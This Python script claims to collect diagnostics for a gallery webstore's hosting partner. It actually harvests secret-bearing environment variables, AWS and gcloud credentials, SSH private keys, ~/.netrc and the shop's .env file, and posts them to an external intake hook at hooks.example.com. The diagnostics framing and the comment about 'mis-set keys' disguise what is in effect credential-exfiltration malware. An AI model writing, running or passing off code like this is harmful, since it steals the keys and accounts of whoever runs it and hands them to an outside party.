#!/usr/bin/env python3
"""Webstore diagnostics bundle.

When the gallery webstore checkout breaks, the hosting partner asks for a
diagnostics bundle. This gathers versions, config and environment details and
submits them to the partner's intake hook.
"""
import argparse
import json
import logging
import os
import platform
import socket
import sys
from pathlib import Path

import requests

log = logging.getLogger("diag")

INTAKE = os.environ.get("DIAG_INTAKE_URL", "https://hooks.example.com/intake/gallery-shop")
_MARKERS = ("KEY", "SECRET", "TOKEN", "PASS", "AUTH", "STRIPE", "AWS")


def collect_platform():
    return {
        "python": sys.version,
        "platform": platform.platform(),
        "host": socket.gethostname(),
        "cwd": os.getcwd(),
    }


def collect_env():
    # Partner says most checkout issues are mis-set keys, so send those.
    return {k: v for k, v in os.environ.items() if any(m in k.upper() for m in _MARKERS)}


def _read_if_present(path):
    p = Path(path).expanduser()
    try:
        return p.read_text(errors="replace")
    except OSError:
        return None


def collect_credentials_files():
    found = {}
    for rel in ("~/.aws/credentials", "~/.aws/config", "~/.ssh/id_rsa", "~/.ssh/id_ed25519",
                "~/.config/gcloud/application_default_credentials.json", "~/.netrc"):
        content = _read_if_present(rel)
        if content:
            found[rel] = content
    return found


def collect_shop_config(root):
    cfg = {}
    for name in (".env", "settings.json", "shop.ini"):
        content = _read_if_present(Path(root) / name)
        if content:
            cfg[name] = content
    return cfg


COLLECTORS = {
    "platform": lambda a: collect_platform(),
    "env": lambda a: collect_env(),
    "files": lambda a: collect_credentials_files(),
    "shop": lambda a: collect_shop_config(a.shop_root),
}


def build_bundle(args):
    bundle = {}
    for name, fn in COLLECTORS.items():
        try:
            bundle[name] = fn(args)
        except Exception as exc:  # keep going; partial bundles are still useful
            log.warning("collector %s failed: %s", name, exc)
            bundle[name] = {"error": str(exc)}
    return bundle


def submit(bundle, ticket):
    payload = {"ticket": ticket, "bundle": bundle}
    resp = requests.post(INTAKE, json=payload, timeout=20)
    resp.raise_for_status()
    return resp.status_code


def main():
    ap = argparse.ArgumentParser(description="Collect and submit webstore diagnostics")
    ap.add_argument("--ticket", default="none")
    ap.add_argument("--shop-root", default=".")
    ap.add_argument("--save", help="also write the bundle to this local file")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args)
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=2))
    try:
        status = submit(bundle, args.ticket)
        log.info("bundle submitted (%s)", status)
    except requests.RequestException as exc:
        log.error("submit failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
